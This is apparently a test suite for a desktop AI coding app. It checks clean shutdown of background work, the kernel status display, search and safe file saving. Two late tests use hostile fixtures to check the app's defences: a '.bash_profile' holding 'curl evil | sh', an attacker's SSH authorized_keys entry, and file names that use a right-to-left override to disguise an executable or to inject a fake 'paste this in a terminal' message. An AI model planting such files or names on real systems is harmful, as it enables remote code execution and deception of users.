"""The window's background work has one owner: quitting mid-export, mid-delete, mid-save or
mid-copy waits for it (a whole file, a removed folder, no half-copied file, no exception at
teardown); a deleted conversation's
controller is freed; the kernel label follows the kernel's events, with no polling; the
conversation search runs one query off the UI thread and drops stale answers."""

import gc
import os
import threading
import time
import weakref
from pathlib import Path

import nbformat
import platformdirs
from PySide6.QtCore import QCoreApplication, QEvent, QTimer

from codeact_desktop import export, no_follow
from codeact_desktop.ui import attachment_tray, workspace_panel
from codeact_desktop.ui.background import BackgroundWork
from codeact_desktop.ui.menu_actions import MENUS

from ._helpers import PLOT_AND_TABLE, send, wait_idle


def test_quit_mid_export_leaves_the_file_whole(qtbot, window, tmp_path, monkeypatch):
    win, _ = window([PLOT_AND_TABLE, "Done."])
    send(qtbot, win, "plot squares")
    wait_idle(qtbot, win)
    real_export, started = export.export_conversation, threading.Event()

    def slow_export(conversation, target):
        started.set()
        time.sleep(1.5)  # the user quits while this runs
        return real_export(conversation, target)

    monkeypatch.setattr(export, "export_conversation", slow_export)
    target = tmp_path / "quit.ipynb"
    monkeypatch.setattr(win, "ask_save_path", lambda *a: str(target))
    win.export_current()
    assert started.wait(5)
    win.close()
    nb = nbformat.read(str(target), as_version=4)  # whole: it reads and validates
    nbformat.validate(nb)
    outputs = [o.output_type for c in nb.cells if c.cell_type == "code" for o in c.outputs]
    assert outputs == ["display_data", "stream", "execute_result"]


def test_quit_mid_delete_removes_the_folder(qtbot, window, monkeypatch):
    win, _ = window(["<execute>open('made.txt', 'w').write('x')</execute>", "ok"])
    send(qtbot, win, "make a file")
    wait_idle(qtbot, win)
    workspace = Path(win.current.conversation.workspace)
    kernel_home = win.paths.kernel_home_for(workspace)
    assert (workspace / "made.txt").exists()
    monkeypatch.setattr(win, "confirm", lambda title, text, **_: True)
    win.delete_conversation()
    win.close()  # at once: the delete is still stopping the kernel
    assert not workspace.exists() and not kernel_home.exists()


def test_quit_mid_save_leaves_the_saved_file_whole(qtbot, window, tmp_path, monkeypatch):
    win, _ = window(["<execute>open('big.bin', 'wb').write(bytes(range(256)) * 32768)</execute>", "ok"])
    send(qtbot, win, "make an 8 MB file")
    wait_idle(qtbot, win)
    made = Path(win.current.conversation.workspace) / "big.bin"
    panel = win.files_panel
    panel.refresh()
    (item,) = [item for item in map(panel.list.item, range(panel.list.count())) if item.text().startswith("big.bin")]
    item.setSelected(True)
    real_copy_out, started = no_follow.copy_out, threading.Event()

    def slow_copy_out(root, relative, target):
        started.set()
        time.sleep(1.5)  # the user quits while this runs
        return real_copy_out(root, relative, target)

    monkeypatch.setattr(no_follow, "copy_out", slow_copy_out)
    target = tmp_path / "saved.bin"
    monkeypatch.setattr(workspace_panel.QFileDialog, "getSaveFileName", lambda *a: (str(target), ""))
    panel.save_selected()
    assert started.wait(5)
    win.close()
    assert target.read_bytes() == made.read_bytes()


def test_quit_mid_copy_leaves_no_half_copied_file(qtbot, window, tmp_path, monkeypatch):
    win, _ = window(["never"])
    data = tmp_path / "data.bin"
    data.write_bytes(bytes(40 << 20))  # 40 chunks
    real_copy = attachment_tray.copy_into_workspace

    def slow_copy(paths, workspace, progress, cancel):
        def slow_progress(done, total):
            time.sleep(0.2)  # 8 s in all: the user quits while this runs
            progress(done, total)
        return real_copy(paths, workspace, progress=slow_progress, cancel=cancel)

    monkeypatch.setattr(attachment_tray, "copy_into_workspace", slow_copy)
    workspace = Path(win.current.conversation.workspace)
    win.attach([data])
    qtbot.waitUntil(lambda: "MB of 40.0 MB" in win.tray.progress_label.text(), timeout=10_000)
    win.close()
    # Cancelled and cleaned up, as Cancel does: no message named it, and nothing is cut off.
    assert [p.name for p in workspace.iterdir() if "data.bin" in p.name] == []


def test_quit_mid_removal_of_a_folders_copy_removes_it(qtbot, window, tmp_path, monkeypatch):
    win, _ = window(["never"])
    photos = tmp_path / "photos"
    (photos / "sub").mkdir(parents=True)
    for i in range(20):
        (photos / "sub" / f"p{i}.txt").write_text("p")
    workspace = Path(win.current.conversation.workspace)
    win.attach([photos])
    qtbot.waitUntil(lambda: [a.name for a in win.tray.files()] == ["photos"], timeout=10_000)
    real_remove = attachment_tray.remove_tree

    def slow_remove(path):
        if Path(path) == workspace / "photos":
            time.sleep(0.5)  # a large folder
        return real_remove(path)

    monkeypatch.setattr(attachment_tray, "remove_tree", slow_remove)
    win.tray.remove(win.tray.files()[0])  # taken back: its copy goes, off the UI thread
    assert "remove attachment" in win.background.running  # the one owner, which quitting waits for
    win.close()
    assert not (workspace / "photos").exists()


def test_a_deleted_conversations_controller_is_freed(qtbot, window, monkeypatch):
    win, _ = window(["<execute>x = 1</execute>", "ok"])
    send(qtbot, win, "set x")
    wait_idle(qtbot, win)
    controller = weakref.ref(win.current)
    agent = weakref.ref(win.current.agent)
    kernel = win.current.kernel
    monkeypatch.setattr(win, "confirm", lambda title, text, **_: True)
    with qtbot.waitSignal(win.background.done, timeout=30_000,
                          check_params_cb=lambda name, result: name == "delete conversation"):
        win.delete_conversation()
    assert not kernel.is_alive and controller() not in win.controllers.values()

    def freed() -> bool:  # the delete's thread may still be ending, its frame holding it
        QCoreApplication.sendPostedEvents(None, QEvent.DeferredDelete)
        gc.collect()
        return controller() is None and agent() is None

    qtbot.waitUntil(freed, timeout=10_000)


def test_kernel_label_follows_the_kernels_events(qtbot, window, monkeypatch):
    win, _ = window(["<execute>import time; time.sleep(1.5)</execute>", "slept"])
    assert not any(isinstance(t, QTimer) and t.interval() == 500 and t.isActive()
                   for t in win.findChildren(QTimer))  # no poll
    qtbot.waitUntil(lambda: win.kernel_label.text() == "kernel: ready", timeout=30_000)
    seen = []
    win.current.engine_event.connect(lambda e: seen.append(win.kernel_label.text()))
    send(qtbot, win, "sleep")
    qtbot.waitUntil(lambda: win.kernel_label.text() == "kernel: busy", timeout=10_000)
    assert win.interrupt_button.isEnabled()
    wait_idle(qtbot, win)
    assert win.kernel_label.text() == "kernel: ready" and not win.interrupt_button.isEnabled()
    monkeypatch.setattr(win, "confirm", lambda title, text, **_: True)
    win.restart_kernel()
    qtbot.waitUntil(lambda: "kernel: restarting" in seen, timeout=30_000)
    qtbot.waitUntil(lambda: win.kernel_label.text() == "kernel: ready" and win.sandbox_status.isVisible(),
                    timeout=60_000)
    # Another conversation shows its own kernel's state at once, then follows its events.
    first = win.current
    win.new_conversation()
    assert win.current is not first
    assert win.kernel_label.text() == f"kernel: {win.current.kernel.state.status}"
    qtbot.waitUntil(lambda: win.kernel_label.text() == "kernel: ready", timeout=30_000)


def test_kernel_death_shows_the_reason(qtbot, window):
    win, _ = window(["<execute>import os, signal; os.kill(os.getpid(), signal.SIGKILL)</execute>", "it died"])
    qtbot.waitUntil(lambda: win.kernel_label.text() == "kernel: ready", timeout=30_000)
    texts = []
    win.current.engine_event.connect(lambda e: texts.append(win.kernel_label.text()))
    send(qtbot, win, "die")
    wait_idle(qtbot, win)
    died = [t for t in texts if t.startswith("kernel: died")]
    assert died and " — " in died[0], texts


def test_search_runs_one_query_off_the_ui_thread_and_drops_stale_answers(qtbot, window, monkeypatch):
    win, _ = window(["The answer mentions a zebra.", "Another answer."])
    send(qtbot, win, "tell me about animals")
    wait_idle(qtbot, win)
    first = win.current.conversation
    first.set_title("Animals")
    win.store.create_conversation(win.paths.workspaces, title="100% cotton")
    win.sidebar.refresh()
    threads, real_search = [], win.store.search_conversations

    def recorded(needle, limit=200):
        threads.append(threading.current_thread() is threading.main_thread())
        return real_search(needle, limit)

    monkeypatch.setattr(win.store, "search_conversations", recorded)

    def search(text):
        with qtbot.waitSignal(win.sidebar.searched, timeout=5000):
            win.search.setText(text)
        return [win.conversation_list.item(i).text() for i in range(win.conversation_list.count())]

    assert search("ZEBRA") == ["Animals"]  # in a reply, any case
    assert search("0% c") == ["100% cotton"]  # % is a character here, not a wildcard
    assert search("%") == ["100% cotton"]
    assert threads and not any(threads)  # never on the UI thread
    calls = len(threads)
    with qtbot.waitSignal(win.sidebar.searched, timeout=5000):
        for text in ("a", "an", "ani", "anim"):  # typed quickly: one search
            win.search.setText(text)
    assert len(threads) == calls + 1
    shown = [win.conversation_list.item(i).text() for i in range(win.conversation_list.count())]
    win.sidebar._answered(0, [])  # an answer for an older text changes nothing
    assert [win.conversation_list.item(i).text() for i in range(win.conversation_list.count())] == shown
    win.search.clear()
    qtbot.waitUntil(lambda: win.conversation_list.count() == 2, timeout=5000)


def test_background_work_reports_failures_and_refuses_work_after_close(qtbot):
    work = BackgroundWork()
    failures = []
    with qtbot.waitSignal(work.failed, timeout=5000) as blocker:
        work.run("broken", lambda: 1 / 0, on_failed=failures.append)
    assert blocker.args[0] == "broken" and failures == ["division by zero"]
    with qtbot.waitSignal(work.done, timeout=5000) as blocker:
        work.run("fine", lambda: 42)
    assert blocker.args == ["fine", 42]
    assert work.close(1000) and not work.run("late", lambda: None)


def test_menus_come_from_one_table(qtbot, window):
    win, _ = window(["never"])
    for item in MENUS:
        if item.text is not None:
            assert callable(getattr(win, item.slot)), item
    texts = {a.text() for m in win.menuBar().actions() for a in m.menu().actions()}
    assert {"Open log folder", "Copy diagnostic report", "Files panel"} <= texts
    assert [s.toString() for s in win.findChild(type(win.about_action), "files_action").shortcuts()] == ["Ctrl+Shift+F"]
    assert win.files_action.isChecked() and win.files_panel.isVisible()
    win.files_action.trigger()
    assert not win.files_panel.isVisible() and not win.files_action.isChecked()


def test_help_opens_the_log_folder(qtbot, window, monkeypatch):
    from codeact_desktop import app_log

    win, _ = window(["never"])
    opened = []
    monkeypatch.setattr(win, "open_folder", opened.append)
    win.log_folder_action.trigger()
    assert opened == [app_log.log_folder(win.paths)] and opened[0].is_dir()


def test_help_copies_a_diagnostic_report_without_the_conversation(qtbot, window):
    from PySide6.QtGui import QGuiApplication

    win, _ = window(["A reply about pelicans."])
    send(qtbot, win, "my secret word is marzipan")
    wait_idle(qtbot, win)
    QGuiApplication.clipboard().setText("")
    win.diagnostic_action.trigger()
    qtbot.waitUntil(lambda: "Diagnostic report copied" in win.statusBar().currentMessage(), timeout=30_000)
    report = QGuiApplication.clipboard().text()
    assert "CodeAct Desktop" in report and "scripted" in report.lower()
    assert "marzipan" not in report and "pelicans" not in report


def test_a_copy_that_fails_unexpectedly_frees_the_tray(qtbot, window, tmp_path, monkeypatch):
    win, _ = window(["never"])
    data = tmp_path / "data.csv"
    data.write_text("a\n1\n")

    def broken_copy(paths, workspace, progress, cancel):
        raise RecursionError("maximum recursion depth exceeded")  # not an OSError

    monkeypatch.setattr(attachment_tray, "copy_into_workspace", broken_copy)
    failures = []
    win.tray.failed.connect(failures.append)
    win.attach([data])
    qtbot.waitUntil(lambda: bool(failures), timeout=10_000)
    assert "Could not copy the files" in failures[0] and not win.tray.copying
    assert not win.tray.progress.isVisible()
    monkeypatch.undo()
    win.attach([data])  # the next drop is taken, not "another copy is still running"
    qtbot.waitUntil(lambda: [a.name for a in win.tray.files()] == ["data.csv"], timeout=10_000)


def test_saving_a_folder_with_links_and_deep_nesting_says_what_was_left(qtbot, window, tmp_path, monkeypatch):
    win, _ = window(["<execute>\nimport os\nos.makedirs('out/sub')\nopen('out/sub/a.txt', 'w').write('a')\n"
                     "open('out/report.txt', 'w').write('r')\n</execute>",
                     "<execute>\nimport os\nos.symlink(os.path.expanduser('~'), 'out/home')\n"
                     "fd = os.open('out/sub', os.O_RDONLY)\nfor _ in range(150):\n"
                     "    os.mkdir('d', dir_fd=fd); fd = os.open('d', os.O_RDONLY, dir_fd=fd)\n</execute>", "done"])
    send(qtbot, win, "make a folder")
    wait_idle(qtbot, win)
    panel = win.files_panel
    panel.refresh()
    workspace = Path(win.current.conversation.workspace)
    problems = []
    panel.save_failed.connect(problems.append)
    monkeypatch.setattr(panel, "selected_relative", lambda: "out")
    monkeypatch.setattr(panel, "_selected_kind", lambda: "folder")
    monkeypatch.setattr(workspace_panel.QFileDialog, "getSaveFileName", lambda *a: (str(tmp_path / "saved"), ""))
    panel.save_selected()  # 150 folders deep inside: refused past 100, with a message, not a silent stop
    qtbot.waitUntil(lambda: bool(problems), timeout=20_000)
    assert problems[0].startswith("out could not be saved") and "nested more than 100 deep" in problems[0]
    no_follow.remove_tree(workspace / "out" / "sub" / "d")
    no_follow.remove_tree(tmp_path / "saved")
    panel.save_selected()  # the link to the home is left out, and the user is told
    qtbot.waitUntil(lambda: len(problems) == 2, timeout=20_000)
    assert "without the 1 link(s) inside it" in problems[1]
    assert sorted(p.name for p in (tmp_path / "saved").rglob("*")) == ["a.txt", "report.txt", "sub"]


def test_save_as_never_offers_a_start_up_file_of_the_home(qtbot, window, tmp_path, monkeypatch):
    # Code names what it made `.bash_profile` or `.ssh`: Save as used to propose ~/.bash_profile
    # (read at the next login) or ~/.ssh (with the code's authorized_keys), one Enter away.
    win, _ = window(["<execute>\nimport os\nopen('.bash_profile', 'w').write('curl evil | sh')\n"
                     "os.makedirs('.ssh')\nopen('.ssh/authorized_keys', 'w').write('ssh-ed25519 AAAA attacker')\n"
                     "open('invoice_\\u202efdp.exe', 'w').write('MZ')\n</execute>", "done"])
    send(qtbot, win, "make the files")
    wait_idle(qtbot, win)
    downloads = tmp_path / "Downloads"
    downloads.mkdir()
    monkeypatch.setattr(platformdirs, "user_downloads_dir", lambda: str(downloads))
    panel, offered = win.files_panel, []
    monkeypatch.setattr(workspace_panel.QFileDialog, "getSaveFileName", lambda *a: (offered.append(a[2]), ("", ""))[1])
    for relative, kind in ((".bash_profile", "file"), (".ssh", "folder"), ("invoice_\u202efdp.exe", "file")):
        monkeypatch.setattr(panel, "selected_relative", lambda r=relative: r)
        monkeypatch.setattr(panel, "_selected_kind", lambda k=kind: k)
        panel.save_selected()
    assert offered == [str(downloads / "bash_profile"), str(downloads / "ssh"), str(downloads / "invoice__fdp.exe")]


def test_a_failed_save_names_the_file_on_one_visible_line(qtbot, window, tmp_path, monkeypatch):
    # The reason a save failed carried the code's file name raw: newlines and a U+202E
    # wrote lines of their own into the app's message ("Saved to Downloads. To finish,
    # paste this in a terminal: ...").
    name = "r.csv\n\nSaved to Downloads. To finish, paste this in a terminal:\n\u202etxt.exe"
    win, _ = window([f"<execute>\nopen({name!r}, 'w').write('x')\n</execute>", "done"])
    send(qtbot, win, "write it")
    wait_idle(qtbot, win)
    workspace, panel, problems = Path(win.current.conversation.workspace), win.files_panel, []
    panel.save_failed.connect(problems.append)
    monkeypatch.setattr(panel, "selected_relative", lambda: name)

    def the_code_swaps_it_meanwhile(*args):
        (workspace / name).unlink()
        os.mkfifo(workspace / name)
        return str(tmp_path / "saved.csv"), ""

    monkeypatch.setattr(workspace_panel.QFileDialog, "getSaveFileName", the_code_swaps_it_meanwhile)
    panel.save_selected()
    qtbot.waitUntil(lambda: bool(problems), timeout=10_000)
    assert "\n" not in problems[0] and "\u202e" not in problems[0], problems[0]
    assert "not a plain file" in problems[0] and "\\u202e" in problems[0]
